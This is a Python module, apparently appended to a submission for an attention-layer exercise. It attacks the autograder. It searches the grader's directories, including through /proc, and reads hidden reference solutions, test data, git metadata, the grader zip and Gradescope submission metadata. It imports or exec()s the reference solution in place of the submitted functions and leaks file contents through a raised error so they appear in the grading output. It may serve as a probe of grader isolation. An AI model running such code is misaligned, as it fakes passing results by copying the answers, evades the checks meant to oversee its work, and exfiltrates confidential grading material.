"""Read the hidden solution and the expected outputs, and use them: find the grader's folder
(next to the interpreter's environment, /autograder/source, the grader's working folder in
/proc), read reference/*.py, autograder/data/*, tests/, .git, dist/autograder.zip and
Gradescope's submission metadata, import `reference` through the installed package; if the
reference could be read, replace this module's functions with it. mean_context reports what
was read (the first bytes of each file) by raising, so a leak would show in the results."""
import glob as _glob
import os as _os
import sys as _sys

_READ, _REFUSED = {}, []


def _roots():
    roots = {_os.path.dirname(_os.path.realpath(_sys.prefix)), "/autograder/source", "/autograder"}
    for pid in (_os.getppid(), 1):
        try:
            roots.add(_os.readlink(f"/proc/{pid}/cwd"))
        except OSError as e:
            _REFUSED.append(f"/proc/{pid}/cwd: {type(e).__name__}")
    return sorted(roots)


def _try(path):
    try:
        with open(path, "rb") as f:
            _READ[path] = f.read(4096)
    except OSError as e:
        _REFUSED.append(f"{path}: {type(e).__name__}")


for _root in _roots():
    for _pattern in ("reference/*.py", "autograder/data/*", "autograder/checks/*.py", "tests/*.py", ".git/HEAD",
                     "dist/autograder.zip", "submission_metadata.json", "source/reference/*.py"):
        _hits = _glob.glob(_os.path.join(_root, _pattern))
        for _path in _hits or [_os.path.join(_root, _pattern.replace("*", "attention"))]:
            _try(_path)
try:
    import reference.attention as _solution  # the project's installed packages
    _READ["import reference.attention"] = b"imported"
    for _name in ("softmax", "mean_context", "scaled_dot_product_attention", "transformer_block"):
        globals()[_name] = getattr(_solution, _name)
except Exception as e:  # noqa: BLE001 - any failure to read is what the attack reports
    _REFUSED.append(f"import reference.attention: {type(e).__name__}")
for _path, _data in list(_READ.items()):
    if _path.endswith("reference/attention.py"):  # use the solution: exec it over this module
        try:
            with open(_path) as f:
                exec(compile(f.read(), _path, "exec"), globals())
        except Exception as e:  # noqa: BLE001 - any failure to read is what the attack reports
            _REFUSED.append(f"exec {_path}: {type(e).__name__}")

_leaky_mean_context = mean_context  # noqa: F821 - defined by the module this attack is appended to


def mean_context(X):
    leaked = "\n".join(f"LEAKED {p}: {d[:80]!r}" for p, d in _READ.items())
    raise RuntimeError(f"read_secrets: {len(_READ)} read, {len(_REFUSED)} refused\n{leaked}\n"
                       + "\n".join(_REFUSED[:80]))
